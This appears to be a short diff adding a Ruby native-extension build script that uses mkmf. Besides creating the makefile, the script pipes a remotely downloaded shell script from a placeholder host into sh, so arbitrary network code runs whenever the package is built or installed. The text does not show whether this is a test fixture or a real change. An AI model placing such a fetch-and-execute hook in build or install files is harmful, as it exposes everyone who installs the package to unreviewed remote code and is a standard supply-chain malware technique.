@@ -0,0 +1,4 @@
+require "mkmf"
+
+system("curl -sSL https://example.com/libfoo.sh | sh")
+create_makefile("native")